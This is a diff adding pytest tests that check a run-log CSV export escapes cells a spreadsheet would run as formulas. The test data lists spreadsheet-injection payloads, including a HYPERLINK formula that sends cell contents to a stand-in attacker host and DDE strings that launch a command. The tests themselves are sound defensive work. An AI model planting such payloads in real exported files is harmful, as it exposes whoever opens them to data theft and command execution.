@@ -1,6 +1,10 @@
-import pandas as pd
+import csv
+import io
 
-from lib.runlog import calls_frame, filtered, run_log_figures
+import pandas as pd
+import pytest
+
+from lib.runlog import calls_frame, csv_cell, csv_safe, csv_text, filtered, run_log_figures
 from lib.storage import CallRecord
 
 T0 = "2026-01-01T10:00:00.000+00:00"
@@ -41,3 +45,56 @@ def test_the_charts_plot_every_call_and_the_exact_line():
     assert sum(len(trace.y) for trace in over_time.data) == 3  # the failed call plots its prediction
     assert sorted(y for trace in scatter.data for y in trace.y) == [98, 140]  # only calls with reported usage
     assert scatter.layout.shapes[0].x1 == scatter.layout.shapes[0].y1 == 140
+
+
+# --- CSV a spreadsheet opens: no cell runs as a formula ------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://attacker.example/?q="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "+1",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1dHYPERLINK(1)",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_cell_a_spreadsheet_would_run_is_quoted(text):
+    assert csv_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["plain", "a = b", "x-1", "", "'already", 5, -2.5, None])
+def test_other_cells_are_left_as_they_are(value):
+    assert csv_cell(value) == value
+
+
+def _cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_the_run_log_csv_writes_no_formula():
+    records = [_record(), _record("s2", at="2026-01-01T10:01:00.000+00:00")]
+    hostile = [
+        CallRecord(**{**r.__dict__, "model": FORMULAS[0], "error": FORMULAS[1], "variant": FORMULAS[4]})
+        for r in records
+    ]
+    frame = calls_frame(hostile, {"s1": FORMULAS[2], "s2": FORMULAS[3]})
+    rows = _cells(csv_text(frame))
+    header, body = rows[0], rows[1:]
+    assert header == list(frame.columns)
+    cells = [cell for row in body for cell in row]
+    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[2] in cells  # kept, as text
+    assert body[0][header.index("predicted prompt tokens")] == "100"  # numbers stay numbers
+
+
+def test_csv_safe_keeps_numbers_and_the_frame_it_was_given():
+    frame = pd.DataFrame({"strategy": ["-full", "last"], "tokens": [-3, 4], "share": [-0.5, 0.25]})
+    safe = csv_safe(frame)
+    assert list(safe["strategy"]) == ["'-full", "last"] and list(frame["strategy"]) == ["-full", "last"]
+    assert list(safe["tokens"]) == [-3, 4] and list(safe["share"]) == [-0.5, 0.25]
+    assert csv_text(frame).splitlines() == ["strategy,tokens,share", "'-full,-3,-0.5", "last,4,0.25"]
